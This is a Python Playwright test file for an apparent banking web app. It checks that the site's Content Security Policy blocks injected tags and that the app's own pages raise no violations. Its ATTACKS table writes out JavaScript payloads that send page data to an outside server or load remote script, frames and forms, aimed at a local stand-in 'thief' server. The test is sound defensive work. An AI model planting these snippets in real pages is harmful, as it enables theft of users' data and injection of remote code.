"""The browser itself refuses what an attacker who got a tag into a page would do next; our own pages break no rule."""

from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest
from playwright.sync_api import Page

from tests.e2e.conftest import Person

#: Keeps every breach of the policy where a test can read it.
LISTEN = """
    window.breaches = [];
    document.addEventListener("securitypolicyviolation", e => window.breaches.push(
        e.effectiveDirective + " " + e.blockedURI));
"""

#: What would take something out of the page, or bring something in.
ATTACKS = {
    "script-src-elem": "const s = document.createElement('script'); s.src = URL + '/x.js'; document.body.append(s);",
    "img-src": "new Image().src = URL + '/?stolen=' + document.title;",
    "connect-src": "fetch(URL + '/?stolen').catch(() => 0);",
    "style-src-elem": "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = URL + '/x.css';"
    "document.head.append(l);",
    "frame-src": "const f = document.createElement('iframe'); f.src = URL; document.body.append(f);",
    "form-action": "const f = document.createElement('form'); f.action = URL; document.body.append(f); f.submit();",
    "base-uri": "const b = document.createElement('base'); b.href = URL; document.head.append(b);",
    "object-src": "const o = document.createElement('object'); o.data = URL; document.body.append(o);",
}

PAGES = ("/dashboard", "/transfer", "/p2ptransfer", "/transactions", "/settings")


class Thief:
    """A server of somebody else's, that notes who came."""

    def __init__(self) -> None:
        visits = self.visits = list[str]()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                visits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815 - as the library names it

            def log_message(self, format: str, *args: object) -> None:
                """Nothing: the visits are kept."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def thief() -> Iterator[Thief]:
    made = Thief()
    yield made
    made.close()


@pytest.mark.parametrize("directive", ATTACKS)
def test_what_a_planted_tag_would_do_is_refused(page: Page, thief: Thief, directive: str) -> None:
    page.add_init_script(LISTEN)
    page.goto("/signin")
    page.evaluate(f"() => {{ const URL = '{thief.url}'; {ATTACKS[directive]} }}")
    page.wait_for_function("d => window.breaches.some(b => b.startsWith(d + ' '))", arg=directive)
    assert thief.visits == []


def test_our_own_pages_break_no_rule(alice: Person) -> None:
    alice.context.add_init_script(LISTEN)
    for path in PAGES:
        page = alice.open(path)
        page.wait_for_load_state("networkidle")
        assert page.evaluate("() => window.breaches") == [], path
        page.close()
